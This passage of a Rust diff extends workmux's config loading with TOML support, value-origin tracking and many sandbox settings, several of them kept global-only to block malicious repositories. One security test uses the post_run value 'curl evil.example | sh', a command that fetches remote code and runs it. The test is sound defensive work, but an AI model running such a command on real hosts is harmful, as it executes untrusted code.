@@ -961,20 +1567,238 @@ pub fn validate_panes_config(panes: &[PaneConfig]) -> anyhow::Result<()> {
 }
 
 /// Get the path to the global config file.
-/// Prefers existing .yml file to avoid shadowing, otherwise defaults to .yaml.
+/// Prefers an existing file in any supported format to avoid shadowing,
+/// otherwise defaults to config.yaml.
 pub fn global_config_path() -> Option<PathBuf> {
-    let home = home::home_dir()?;
-    let yaml = home.join(".config/workmux/config.yaml");
-    let yml = home.join(".config/workmux/config.yml");
+    let dir = home::home_dir()?.join(".config/workmux");
+    GLOBAL_CONFIG_NAMES
+        .iter()
+        .map(|name| dir.join(name))
+        .find(|path| path.exists())
+        .or_else(|| Some(dir.join(GLOBAL_CONFIG_NAMES[0])))
+}
 
-    // Prefer existing .yml file to avoid shadowing user's config
-    if yml.exists() && !yaml.exists() {
-        Some(yml)
-    } else {
-        Some(yaml)
+/// Where an effective config value came from.
+#[derive(Debug, Clone, PartialEq)]
+pub enum ConfigOrigin {
+    /// Nothing set it: a built-in default, or one workmux derived from the
+    /// repository (e.g. `panes` when there's a `CLAUDE.md`)
+    Default,
+    /// The global config file
+    Global(PathBuf),
+    /// The project config file
+    Project(PathBuf),
+    /// Both files set it and the values were combined, e.g. a project list
+    /// using the `<global>` placeholder
+    Merged { global: PathBuf, project: PathBuf },
+}
+
+impl std::fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigOrigin::Default => write!(f, "default"),
+            ConfigOrigin::Global(path) => write!(f, "global:{}", path.display()),
+            ConfigOrigin::Project(path) => write!(f, "project:{}", path.display()),
+            ConfigOrigin::Merged { global, project } => write!(
+                f,
+                "global:{} + project:{}",
+                global.display(),
+                project.display()
+            ),
+        }
     }
 }
 
+/// An effective config value and its [`ConfigOrigin`].
+#[derive(Debug, Clone, PartialEq)]
+pub struct ConfigValueOrigin {
+    /// Dotted path of the value, e.g. `sandbox.lima.cpus`
+    pub key: String,
+    pub value: serde_yaml::Value,
+    pub origin: ConfigOrigin,
+}
+
+/// One config file, for telling which values it set.
+struct ConfigLayer {
+    path: PathBuf,
+    /// The file as written, to tell keys it set from defaults
+    raw: serde_yaml::Value,
+    /// The file parsed into a [`Config`] and serialized back, so values
+    /// compare in the same form as the effective config
+    parsed: serde_yaml::Value,
+}
+
+impl ConfigLayer {
+    fn read(path: PathBuf) -> anyhow::Result<Self> {
+        let contents = fs::read_to_string(&path)?;
+        let raw = match ConfigFormat::of(&path) {
+            ConfigFormat::Yaml => serde_yaml::from_str(&contents)?,
+            ConfigFormat::Toml => serde_yaml::to_value(toml::from_str::<toml::Table>(&contents)?)?,
+        };
+        let config: Config = serde_yaml::from_value(raw.clone())?;
+        Ok(Self {
+            parsed: serde_yaml::to_value(&config)?,
+            path,
+            raw,
+        })
+    }
+
+    /// Whether the file sets `key` (or a shorthand for the table holding it).
+    fn sets(&self, key: &[&str]) -> bool {
+        let mut value = &self.raw;
+        for part in key {
+            match value {
+                serde_yaml::Value::Mapping(map) => match map.get(*part) {
+                    Some(inner) => value = inner,
+                    None => return false,
+                },
+                _ => break,
+            }
+        }
+        !value.is_null()
+    }
+
+    fn get(&self, key: &[&str]) -> Option<&serde_yaml::Value> {
+        key.iter()
+            .try_fold(&self.parsed, |value, part| value.get(*part))
+    }
+}
+
+/// Attribute each non-null leaf of the `effective` config to the layer that
+/// produced it. A value counts as a file's when the file sets it to exactly
+/// the effective value, so a global-only key that a project sets to
+/// something else is attributed to the global config (or the default).
+fn value_origins(
+    effective: &serde_yaml::Value,
+    global: Option<&ConfigLayer>,
+    project: Option<&ConfigLayer>,
+) -> Vec<ConfigValueOrigin> {
+    fn leaves<'a>(
+        value: &'a serde_yaml::Value,
+        path: &mut Vec<String>,
+        out: &mut Vec<(Vec<String>, &'a serde_yaml::Value)>,
+    ) {
+        match value {
+            serde_yaml::Value::Mapping(map) if !map.is_empty() => {
+                for (key, inner) in map {
+                    path.push(key.as_str().unwrap_or_default().to_string());
+                    leaves(inner, path, out);
+                    path.pop();
+                }
+            }
+            serde_yaml::Value::Null => {}
+            _ => out.push((path.clone(), value)),
+        }
+    }
+
+    let mut found = Vec::new();
+    leaves(effective, &mut Vec::new(), &mut found);
+    found
+        .into_iter()
+        .map(|(path, value)| {
+            let key: Vec<&str> = path.iter().map(String::as_str).collect();
+            let set_to_effective =
+                |layer: &&ConfigLayer| layer.sets(&key) && layer.get(&key) == Some(value);
+            let origin = if let Some(layer) = project.filter(set_to_effective) {
+                ConfigOrigin::Project(layer.path.clone())
+            } else if let Some(layer) = global.filter(set_to_effective) {
+                ConfigOrigin::Global(layer.path.clone())
+            } else {
+                match (global, project) {
+                    (Some(g), Some(p)) if g.sets(&key) && p.sets(&key) => ConfigOrigin::Merged {
+                        global: g.path.clone(),
+                        project: p.path.clone(),
+                    },
+                    _ => ConfigOrigin::Default,
+                }
+            };
+            ConfigValueOrigin {
+                key: path.join("."),
+                value: value.clone(),
+                origin,
+            }
+        })
+        .collect()
+}
+
+/// Render a YAML parse error as `:LINE:COL: message`, turning serde's
+/// unknown-field errors into the full key path plus a "did you mean" hint.
+fn describe_parse_error(err: &serde_yaml::Error, contents: &str) -> String {
+    let message = err.to_string();
+    let message = match message.rfind(" at line ") {
+        Some(idx) => &message[..idx],
+        None => &message,
+    };
+
+    let unknown = regex::Regex::new(
+        r"^(?:(?P<path>.+?): )?unknown field `(?P<field>[^`]+)`, expected (?P<expected>.*)$",
+    )
+    .expect("valid regex");
+    let Some(caps) = unknown.captures(message) else {
+        let location = err
+            .location()
+            .map(|l| format!(":{}:{}", l.line(), l.column()))
+            .unwrap_or_default();
+        return format!("{}: {}", location, message);
+    };
+
+    let field = &caps["field"];
+    let key = match caps.name("path") {
+        Some(path) => format!("{}.{}", path.as_str(), field),
+        None => field.to_string(),
+    };
+
+    // Top-level errors carry no location, so find the key in the source
+    let location = err
+        .location()
+        .map(|l| (l.line(), l.column()))
+        .or_else(|| {
+            contents.lines().enumerate().find_map(|(i, line)| {
+                let trimmed = line.trim_start();
+                trimmed
+                    .strip_prefix(field)
+                    .is_some_and(|rest| rest.trim_start().starts_with(':'))
+                    .then(|| (i + 1, line.len() - trimmed.len() + 1))
+            })
+        })
+        .map(|(line, col)| format!(":{}:{}", line, col))
+        .unwrap_or_default();
+
+    let expected: Vec<&str> = caps["expected"].split('`').skip(1).step_by(2).collect();
+    let hint = closest_key(field, &expected)
+        .map(|k| format!(" (did you mean `{}`?)", k))
+        .unwrap_or_default();
+
+    format!("{}: unknown key `{}`{}", location, key, hint)
+}
+
+/// The candidate closest to `field` by edit distance, if it's close enough
+/// to plausibly be a typo.
+fn closest_key<'a>(field: &str, candidates: &[&'a str]) -> Option<&'a str> {
+    let max_distance = (field.chars().count() / 2).max(2);
+    candidates
+        .iter()
+        .map(|c| (edit_distance(field, c), *c))
+        .filter(|(d, _)| *d <= max_distance)
+        .min_by_key(|(d, _)| *d)
+        .map(|(_, c)| c)
+}
+
+/// Levenshtein distance between two strings.
+fn edit_distance(a: &str, b: &str) -> usize {
+    let b: Vec<char> = b.chars().collect();
+    let mut prev: Vec<usize> = (0..=b.len()).collect();
+    for (i, ca) in a.chars().enumerate() {
+        let mut cur = vec![i + 1; b.len() + 1];
+        for (j, cb) in b.iter().enumerate() {
+            let cost = usize::from(ca != *cb);
+            cur[j + 1] = (prev[j] + cost).min(prev[j + 1] + 1).min(cur[j] + 1);
+        }
+        prev = cur;
+    }
+    prev[b.len()]
+}
+
 impl Config {
     /// Load and merge global and project configurations.
     pub fn load(cli_agent: Option<&str>) -> anyhow::Result<Self> {
@@ -1019,6 +1843,12 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        validate_status_template(config.status_template())?;
+        if config.status_events().is_empty() {
+            anyhow::bail!("status_events must list at least one event");
+        }
+        config.status_feed.max_size()?;
+        crate::sandbox::lima::set_lima_home(config.sandbox.lima_home());
 
         debug!(
             agent = ?config.agent,
@@ -1076,6 +1906,12 @@ impl Config {
         }
 
         config.sandbox.network.validate()?;
+        validate_status_template(config.status_template())?;
+        if config.status_events().is_empty() {
+            anyhow::bail!("status_events must list at least one event");
+        }
+        config.status_feed.max_size()?;
+        crate::sandbox::lima::set_lima_home(config.sandbox.lima_home());
 
         debug!(
             agent = ?config.agent,
@@ -1087,6 +1923,28 @@ impl Config {
         Ok((config, location))
     }
 
+    /// Load the config as [`Config::load_with_location`] does, and report
+    /// where each effective value came from (`workmux config dump
+    /// --origins`), keyed by its dotted path, e.g. `sandbox.lima.cpus`.
+    /// Lists are reported whole. Unset values are left out.
+    pub fn load_with_origins() -> anyhow::Result<(Self, Vec<ConfigValueOrigin>)> {
+        let (config, location) = Self::load_with_location(None)?;
+        let global_path = match home::home_dir() {
+            Some(home_dir) => {
+                find_config_in(&home_dir.join(".config/workmux"), &GLOBAL_CONFIG_NAMES)
+            }
+            None => None,
+        };
+        let global = global_path.map(ConfigLayer::read).transpose()?;
+        let project = location
+            .map(|loc| ConfigLayer::read(loc.config_path))
+            .transpose()?;
+
+        let effective = serde_yaml::to_value(&config)?;
+        let origins = value_origins(&effective, global.as_ref(), project.as_ref());
+        Ok((config, origins))
+    }
+
     /// Load configuration from a specific path.
     fn load_from_path(path: &Path) -> anyhow::Result<Option<Self>> {
         if !path.exists() {
@@ -1094,23 +1952,29 @@ impl Config {
         }
         debug!(path = %path.display(), "config:reading file");
         let contents = fs::read_to_string(path)?;
-        let config: Config = serde_yaml::from_str(&contents)
-            .map_err(|e| anyhow::anyhow!("Failed to parse config at {}: {}", path.display(), e))?;
+        let config: Config = match ConfigFormat::of(path) {
+            ConfigFormat::Yaml => serde_yaml::from_str(&contents).map_err(|e| {
+                anyhow::anyhow!(
+                    "Failed to parse config at {}{}",
+                    path.display(),
+                    describe_parse_error(&e, &contents)
+                )
+            })?,
+            ConfigFormat::Toml => toml::from_str(&contents).map_err(|e| {
+                anyhow::anyhow!("Failed to parse config at {}: {}", path.display(), e)
+            })?,
+        };
         Ok(Some(config))
     }
 
     /// Load the global configuration file from the XDG config directory.
     fn load_global() -> anyhow::Result<Option<Self>> {
         // Check ~/.config/workmux (XDG convention, works cross-platform)
-        if let Some(home_dir) = home::home_dir() {
-            let xdg_config_path = home_dir.join(".config/workmux/config.yaml");
-            if xdg_config_path.exists() {
-                return Self::load_from_path(&xdg_config_path);
-            }
-            let xdg_config_path_yml = home_dir.join(".config/workmux/config.yml");
-            if xdg_config_path_yml.exists() {
-                return Self::load_from_path(&xdg_config_path_yml);
-            }
+        if let Some(home_dir) = home::home_dir()
+            && let Some(path) =
+                find_config_in(&home_dir.join(".config/workmux"), &GLOBAL_CONFIG_NAMES)
+        {
+            return Self::load_from_path(&path);
         }
         Ok(None)
     }
@@ -1130,7 +1994,7 @@ impl Config {
 
     /// Load the project-specific configuration file.
     ///
-    /// Searches for `.workmux.yaml` or `.workmux.yml` by walking upward from CWD:
+    /// Searches for `.workmux.yaml`, `.workmux.yml` or `.workmux.toml` by walking upward from CWD:
     /// 1. Current directory up to repo root (finds nearest config)
     /// 2. Main worktree root (fallback for linked worktrees)
     fn load_project() -> anyhow::Result<Option<Self>> {
@@ -1187,6 +2051,7 @@ impl Config {
             self,
             project,
             main_branch,
+            base_branch,
             worktree_dir,
             window_prefix,
             agent,
@@ -1195,6 +2060,9 @@ impl Config {
             panes,
             windows,
             status_format,
+            status_debounce_ms,
+            status_template,
+            status_events,
             auto_name,
             nerdfont,
         );
@@ -1259,6 +2127,41 @@ impl Config {
                 .or(self.dashboard.show_check_counts),
         };
 
+        // Capture config: per-field override
+        merged.capture = CaptureConfig {
+            summarizer: project.capture.summarizer.or(self.capture.summarizer),
+            snapshot_retention: project
+                .capture
+                .snapshot_retention
+                .or(self.capture.snapshot_retention),
+        };
+
+        // Status feed: per-field override, except the path is global-only so
+        // a repo's .workmux.yaml can't point the feed (and its rotation) at
+        // another file
+        merged.status_feed = StatusFeedConfig {
+            enabled: project.status_feed.enabled.or(self.status_feed.enabled),
+            path: {
+                if project.status_feed.path.is_some() {
+                    tracing::warn!(
+                        "status_feed.path in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.status_feed.path
+            },
+            max_size: project.status_feed.max_size.or(self.status_feed.max_size),
+        };
+
+        // Multiplexer config: per-field override
+        merged.multiplexer = MultiplexerConfig {
+            backend: project.multiplexer.backend.or(self.multiplexer.backend),
+        };
+
+        // Command templates: per-name override
+        merged.commands = self.commands;
+        merged.commands.extend(project.commands);
+
         // Sandbox config: per-field override with nested struct merging
         merged.sandbox = SandboxConfig {
             enabled: project.sandbox.enabled.or(self.sandbox.enabled),
@@ -1284,17 +2187,42 @@ impl Config {
                 }
                 self.sandbox.image.clone()
             },
-            // Security: env_passthrough is global-only. Project config cannot
-            // set it -- this prevents a malicious repo from requesting
-            // passthrough of host env secrets via .workmux.yaml.
-            env_passthrough: {
-                if project.sandbox.env_passthrough.is_some() {
+            // Security: project config can only add variables the global
+            // config lists in env_passthrough_optional -- this prevents a
+            // malicious repo (or an agent editing the worktree) from
+            // requesting passthrough of host env secrets via .workmux.yaml.
+            env_passthrough: merge_env_passthrough(&self.sandbox, &project.sandbox),
+            env_passthrough_optional: {
+                if project.sandbox.env_passthrough_optional.is_some() {
+                    tracing::warn!(
+                        "env_passthrough_optional in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.env_passthrough_optional.clone()
+            },
+            // Denying can only narrow the passthrough, so project config may add to it.
+            env_deny: match (&self.sandbox.env_deny, &project.sandbox.env_deny) {
+                (Some(global), Some(project)) => Some(
+                    global
+                        .iter()
+                        .chain(project.iter().filter(|name| !global.contains(name)))
+                        .cloned()
+                        .collect(),
+                ),
+                (global, project) => global.clone().or(project.clone()),
+            },
+            // Security: env_file is global-only. Project config cannot set
+            // it -- this prevents a malicious repo from pointing it at host
+            // secrets outside the worktree via .workmux.yaml.
+            env_file: {
+                if project.sandbox.env_file.is_some() {
                     tracing::warn!(
-                        "env_passthrough in project config (.workmux.yaml) is ignored -- \
+                        "env_file in project config (.workmux.yaml) is ignored -- \
                         move it to your global config (~/.config/workmux/config.yaml)"
                     );
                 }
-                self.sandbox.env_passthrough.clone()
+                self.sandbox.env_file.clone()
             },
             // Security: rpc_host is global-only. Project config cannot
             // set it -- this prevents a malicious repo from redirecting
@@ -1308,6 +2236,42 @@ impl Config {
                 }
                 self.sandbox.rpc_host.clone()
             },
+            // Security: rpc_bind is global-only too, so a repo can't expose
+            // the RPC server (and host-exec) beyond loopback.
+            rpc_bind: {
+                if project.sandbox.rpc_bind.is_some() {
+                    tracing::warn!(
+                        "rpc_bind in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.rpc_bind.clone()
+            },
+            // Security: rpc_http lets browser pages talk to the RPC server,
+            // so only the user can turn it on.
+            rpc_http: {
+                if project.sandbox.rpc_http.is_some() {
+                    tracing::warn!(
+                        "rpc_http in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.rpc_http
+            },
+            rpc_ports: project.sandbox.rpc_ports.or(self.sandbox.rpc_ports),
+            rpc_max_conns: project.sandbox.rpc_max_conns.or(self.sandbox.rpc_max_conns),
+            rpc_token_ttl: project.sandbox.rpc_token_ttl.or(self.sandbox.rpc_token_ttl),
+            token_bytes: project.sandbox.token_bytes.or(self.sandbox.token_bytes),
+            preflight: project.sandbox.preflight.or(self.sandbox.preflight),
+            restart: project.sandbox.restart.or(self.sandbox.restart),
+            capture_on_exit: project
+                .sandbox
+                .capture_on_exit
+                .or(self.sandbox.capture_on_exit),
+            capture_on_exit_lines: project
+                .sandbox
+                .capture_on_exit_lines
+                .or(self.sandbox.capture_on_exit_lines),
             toolchain: project
                 .sandbox
                 .toolchain
@@ -1325,6 +2289,56 @@ impl Config {
                 }
                 self.sandbox.host_commands.clone()
             },
+            // Security: open_command is global-only. Project config cannot
+            // set it -- this prevents a malicious repo from running arbitrary
+            // host commands when the guest asks to open a file.
+            open_command: {
+                if project.sandbox.open_command.is_some() {
+                    tracing::warn!(
+                        "open_command in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.open_command.clone()
+            },
+            // Security: rpc_allowed_openers is global-only, same as open_command.
+            rpc_allowed_openers: {
+                if project.sandbox.rpc_allowed_openers.is_some() {
+                    tracing::warn!(
+                        "rpc_allowed_openers in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.rpc_allowed_openers.clone()
+            },
+            // Security: post_run is global-only. Project config cannot set
+            // it -- the worktree is writable from the sandbox, so an agent
+            // could otherwise schedule host commands for its next run.
+            post_run: {
+                if project.sandbox.post_run.is_some() {
+                    tracing::warn!(
+                        "post_run in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.post_run.clone()
+            },
+            workdir: project
+                .sandbox
+                .workdir
+                .clone()
+                .or(self.sandbox.workdir.clone()),
+            // Security: lima_home is global-only. A project could otherwise
+            // point workmux at VMs defined inside the repository.
+            lima_home: {
+                if project.sandbox.lima_home.is_some() {
+                    tracing::warn!(
+                        "lima_home in project config (.workmux.yaml) is ignored -- \
+                        move it to your global config (~/.config/workmux/config.yaml)"
+                    );
+                }
+                self.sandbox.lima_home.clone()
+            },
             // Security: extra_mounts is global-only. Project config cannot
             // set it -- this prevents a malicious repo from mounting over
             // host paths via .workmux.yaml.
@@ -1384,6 +2398,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None,
+                role: None,
             },
             PaneConfig {
                 command: Some("clear".to_string()),
@@ -1392,6 +2407,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None, // Splits most recent (pane 0)
+                role: None,
             },
         ]
     }
@@ -1406,6 +2422,7 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None,
+                role: None,
             },
             PaneConfig {
                 command: Some("clear".to_string()),
@@ -1414,10 +2431,23 @@ impl Config {
                 size: None,
                 percentage: None,
                 target: None, // Splits most recent (pane 0)
+                role: None,
             },
         ]
     }
 
+    /// Hook events `workmux setup` installs, falling back to all of them.
+    pub fn status_events(&self) -> &[StatusEvent] {
+        self.status_events.as_deref().unwrap_or(&StatusEvent::ALL)
+    }
+
+    /// Get the status label template, falling back to the default.
+    pub fn status_template(&self) -> &str {
+        self.status_template
+            .as_deref()
+            .unwrap_or(DEFAULT_STATUS_TEMPLATE)
+    }
+
     /// Get the window prefix to use.
     /// Priority: explicit window_prefix config > nerdfont icon > "wm-"
     pub fn window_prefix(&self) -> &str {
@@ -1438,13 +2468,18 @@ impl Config {
 
     /// Create an example .workmux.yaml configuration file
     pub fn init() -> anyhow::Result<()> {
-        use std::path::PathBuf;
+        Self::init_in(Path::new("."))
+    }
 
-        let config_path = PathBuf::from(".workmux.yaml");
+    /// Write the example config into `dir`, unless it already has a project
+    /// config in any format.
+    fn init_in(dir: &Path) -> anyhow::Result<()> {
+        let config_path = dir.join(PROJECT_CONFIG_NAMES[0]);
 
-        if config_path.exists() {
+        if let Some(existing) = find_config_in(dir, &PROJECT_CONFIG_NAMES) {
             return Err(anyhow::anyhow!(
-                ".workmux.yaml already exists. Remove it first if you want to regenerate it."
+                "{} already exists. Remove it first if you want to regenerate it.",
+                existing.file_name().unwrap_or_default().to_string_lossy()
             ));
         }
 
@@ -1465,9 +2500,16 @@ impl Config {
 #-------------------------------------------------------------------------------
 
 # The primary branch to merge into.
-# Default: Auto-detected from remote HEAD, falls back to main/master.
+# Default: Auto-detected from remote HEAD, falls back to main/master, then
+# to the branch the current checkout tracks.
 # main_branch: main
 
+# Branch that `workmux list` compares worktrees against to decide whether
+# they still have unmerged commits. Useful when features branch off e.g.
+# `develop` rather than the default branch.
+# Default: main_branch.
+# base_branch: develop
+
 # Default merge strategy for `workmux merge`.
 # Options: merge (default), rebase, squash
 # CLI flags (--rebase, --squash) always override this.
@@ -1538,6 +2580,33 @@ impl Config {
 #   waiting: "💬"
 #   done: "✅"
 
+# Coalesce status updates that arrive within this many milliseconds, so
+# hooks firing on every tool call don't make the window name flicker.
+# Default: 200 (0 disables)
+# status_debounce_ms: 200
+
+# Label shown for an agent's status in the window name. Placeholders:
+#   {glyph}   status icon          {status} working, waiting or done
+#   {branch}  worktree branch      {tokens} token count, e.g. 12k
+#   {cost}    cost, e.g. $0.42     {usage}  tokens and cost, e.g. ⚡ 12k $0.42
+# Placeholders with no value render empty and extra spaces are collapsed.
+# Default: "{glyph} {usage}"
+# status_template: "[{branch}] {glyph}"
+
+# Agent hook events that update the status, as installed by `workmux setup`.
+# Drop postToolUse to only update when a prompt is submitted and the agent stops.
+# Run `workmux setup` again after changing this.
+# Default: [userPromptSubmitted, postToolUse, agentStop]
+# status_events: [userPromptSubmitted, agentStop]
+
+# Append every status change as a JSON line to a feed file, for status-bar
+# widgets and other observers (`tail -F` it). Rotated to <path>.1 once it
+# reaches max_size.
+# status_feed:
+#   enabled: true
+#   path: ~/.local/state/workmux/status-feed.jsonl
+#   max_size: 1MiB
+
 #-------------------------------------------------------------------------------
 # Agent & AI
 #-------------------------------------------------------------------------------
@@ -1619,6 +2688,37 @@ impl Config {
 #   merge: "!workmux merge"
 #   preview_size: 60
 
+#-------------------------------------------------------------------------------
+# Capture
+#-------------------------------------------------------------------------------
+
+# Command used by `workmux capture --summarize`. Receives the agent's
+# transcript on stdin and prints a summary.
+# capture:
+#   summarizer: "llm -s 'Summarize what the agent did in a few bullet points'"
+#   # Snapshots kept per worktree by `workmux capture --snapshot` (default: 20)
+#   snapshot_retention: 20
+
+#-------------------------------------------------------------------------------
+# Multiplexer
+#-------------------------------------------------------------------------------
+
+# Force a multiplexer backend instead of auto-detecting it from the
+# environment (useful for nested setups). $WORKMUX_BACKEND or $WORKMUX_MUX
+# take precedence. Options: tmux, wezterm, kitty, zellij
+# multiplexer:
+#   backend: tmux
+
+#-------------------------------------------------------------------------------
+# Command templates
+#-------------------------------------------------------------------------------
+
+# Agent commands run with `workmux sandbox run <worktree> --template <name>`.
+# {worktree}, {branch} and {prompt_file} are replaced with shell-quoted
+# values; write {{ for a literal {.
+# commands:
+#   claude: 'claude --dangerously-skip-permissions -- "$(cat {prompt_file})"'
+
 #-------------------------------------------------------------------------------
 # Sandbox
 #-------------------------------------------------------------------------------
@@ -1637,6 +2737,8 @@ impl Config {
 #   #   # Use sudo for system commands.
 #   #   # provision: |
 #   #   #   sudo apt-get install -y ripgrep fd-find jq
+#   #   # Lima template to create the VM from (name or path to a .yaml).
+#   #   # template: docker
 #   # Extra mount points (read-only by default).
 #   # Supports simple paths or detailed specs with guest_path and writable.
 #   # extra_mounts:
@@ -1747,9 +2849,11 @@ pub fn is_agent_command(command_line: &str, agent_command: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::{
-        Config, ContainerConfig, ExtraMount, LimaConfig, NetworkConfig, NetworkPolicy,
-        SandboxConfig, SandboxRuntime, SandboxTarget, ToolchainMode, is_agent_command,
-        split_first_token, validate_domain,
+        Config, ConfigLayer, ContainerConfig, DEFAULT_STATUS_TEMPLATE, ExtraMount, LimaConfig,
+        NetworkConfig, NetworkPolicy, RestartPolicy, SandboxBackend, SandboxConfig, SandboxRuntime,
+        SandboxTarget, ToolchainMode, describe_parse_error, is_agent_command, parse_size,
+        render_status_template, split_first_token, validate_domain, validate_status_template,
+        value_origins,
     };
 
     #[test]
@@ -1858,6 +2962,73 @@ mod tests {
         assert_eq!(loc.rel_dir, std::path::PathBuf::from("backend"));
     }
 
+    #[test]
+    fn find_project_config_finds_toml_and_prefers_yaml() {
+        let temp = TempDir::new().unwrap();
+        let root = temp.path();
+        std::process::Command::new("git")
+            .args(["init"])
+            .current_dir(root)
+            .output()
+            .unwrap();
+
+        fs::write(root.join(".workmux.toml"), "agent = \"codex\"").unwrap();
+        let loc = find_project_config(root).unwrap().unwrap();
+        assert!(loc.config_path.ends_with(".workmux.toml"));
+
+        // Several in one directory: the first by precedence wins
+        fs::write(root.join(".workmux.yml"), "agent: claude").unwrap();
+        let loc = find_project_config(root).unwrap().unwrap();
+        assert!(loc.config_path.ends_with(".workmux.yml"));
+        fs::write(root.join(".workmux.yaml"), "agent: claude").unwrap();
+        let loc = find_project_config(root).unwrap().unwrap();
+        assert!(loc.config_path.ends_with(".workmux.yaml"));
+    }
+
+    #[test]
+    fn init_refuses_when_any_project_config_exists() {
+        let temp = TempDir::new().unwrap();
+        fs::write(temp.path().join(".workmux.toml"), "agent = \"codex\"").unwrap();
+        let err = Config::init_in(temp.path()).unwrap_err().to_string();
+        assert!(err.contains(".workmux.toml"), "{err}");
+        assert!(!temp.path().join(".workmux.yaml").exists());
+
+        let empty = TempDir::new().unwrap();
+        Config::init_in(empty.path()).unwrap();
+        let created = Config::load_from_path(&empty.path().join(".workmux.yaml")).unwrap();
+        assert!(created.is_some());
+    }
+
+    #[test]
+    fn toml_config_loads_like_yaml() {
+        let temp = TempDir::new().unwrap();
+        let yaml = temp.path().join(".workmux.yaml");
+        let toml = temp.path().join(".workmux.toml");
+        fs::write(
+            &yaml,
+            "agent: codex\nmerge_strategy: rebase\nsandbox:\n  enabled: true\n  rpc_max_conns: 4\npanes:\n  - command: <agent>\n    focus: true\n  - split: horizontal\n    size: 20\n",
+        )
+        .unwrap();
+        fs::write(
+            &toml,
+            "agent = \"codex\"\nmerge_strategy = \"rebase\"\n\n[sandbox]\nenabled = true\nrpc_max_conns = 4\n\n[[panes]]\ncommand = \"<agent>\"\nfocus = true\n\n[[panes]]\nsplit = \"horizontal\"\nsize = 20\n",
+        )
+        .unwrap();
+
+        let from_yaml = super::Config::load_from_path(&yaml).unwrap().unwrap();
+        let from_toml = super::Config::load_from_path(&toml).unwrap().unwrap();
+        assert_eq!(format!("{from_yaml:?}"), format!("{from_toml:?}"));
+        assert_eq!(from_toml.sandbox.rpc_max_conns(), 4);
+
+        fs::write(&toml, "agent = \"codex\"\nnot_a_key = 1\n").unwrap();
+        let err = super::Config::load_from_path(&toml)
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("not_a_key"), "{err}");
+        fs::write(&toml, "agent = \n").unwrap();
+        assert!(super::Config::load_from_path(&toml).is_err());
+    }
+
     #[test]
     fn find_project_config_nearest_wins() {
         let temp = TempDir::new().unwrap();
@@ -1893,6 +3064,18 @@ mod tests {
         assert!(config.env_passthrough().is_empty());
     }
 
+    #[test]
+    fn sandbox_restart_parses_policies() {
+        let config: SandboxConfig = serde_yaml::from_str("restart: on-failure").unwrap();
+        assert_eq!(config.restart(), RestartPolicy::OnFailure);
+        assert_eq!(SandboxConfig::default().restart(), RestartPolicy::Never);
+
+        assert!(!RestartPolicy::Never.should_restart(1));
+        assert!(!RestartPolicy::OnFailure.should_restart(0));
+        assert!(RestartPolicy::OnFailure.should_restart(1));
+        assert!(RestartPolicy::Always.should_restart(0));
+    }
+
     #[test]
     fn sandbox_runtime_explicit_overrides_detect() {
         let config = ContainerConfig {
@@ -2091,6 +3274,22 @@ mod tests {
         assert_eq!(config.resolved_rpc_host(), "custom.host.local");
     }
 
+    #[test]
+    fn test_rpc_port_range_parsing() {
+        let with = |spec: &str| SandboxConfig {
+            rpc_ports: Some(spec.to_string()),
+            ..Default::default()
+        };
+        assert_eq!(SandboxConfig::default().rpc_port_range().unwrap(), None);
+        assert_eq!(
+            with("40000-40100").rpc_port_range().unwrap(),
+            Some(40000..=40100)
+        );
+        assert_eq!(with("4500").rpc_port_range().unwrap(), Some(4500..=4500));
+        assert!(with("5000-4000").rpc_port_range().is_err());
+        assert!(with("abc").rpc_port_range().is_err());
+    }
+
     #[test]
     fn test_resolved_rpc_host_falls_back_to_runtime() {
         let config = SandboxConfig {
@@ -2299,6 +3498,97 @@ mod tests {
         assert_eq!(merged.sandbox.rpc_host, Some("custom.host".to_string()));
     }
 
+    #[test]
+    fn test_sandbox_post_run_global_only() {
+        let global = Config {
+            sandbox: SandboxConfig {
+                post_run: Some("notify-send done".to_string()),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+        let project = Config {
+            sandbox: SandboxConfig {
+                post_run: Some("curl evil.example | sh".to_string()),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = global.merge(project);
+        assert_eq!(merged.sandbox.post_run.as_deref(), Some("notify-send done"));
+    }
+
+    #[test]
+    fn test_sandbox_rpc_bind_global_only() {
+        let project = Config {
+            sandbox: SandboxConfig {
+                rpc_bind: Some("0.0.0.0".to_string()),
+                ..Default::default()
+            },
+            ..Default::default()
+        };
+
+        let merged = Config::default().merge(project);
+        assert!(merged.sandbox.rpc_bind.is_none());
+        assert_eq!(
+            merged.sandbox.rpc_bind_addr().unwrap(),
+            SandboxConfig::default().rpc_bind_addr().unwrap()
+        );
+    }
+
+    #[test]
+    fn test_rpc_bind_addr_default_depends_on_backend() {
+        let with = |backend| SandboxConfig {
+            backend: Some(backend),
+            ..Default::default()
+        };
+        assert!(
+            with(SandboxBackend::Lima)
+                .rpc_bind_addr()
+                .unwrap()
+                .is_loopback()
+        );
+        let container = with(SandboxBackend::Container).rpc_bind_addr().unwrap();
+        if cfg!(target_os = "linux") {
+            assert!(container.is_unspecified());
+        } else {
+            assert!(container.is_loopback());
+        }
+    }
+
+    #[test]
+    fn test_sandbox_rpc_http_global_only() {
+        let with = |rpc_http| Config {
+            sandbox: SandboxConfig {
+                rpc_http,
+                ..Default::default()
+            },
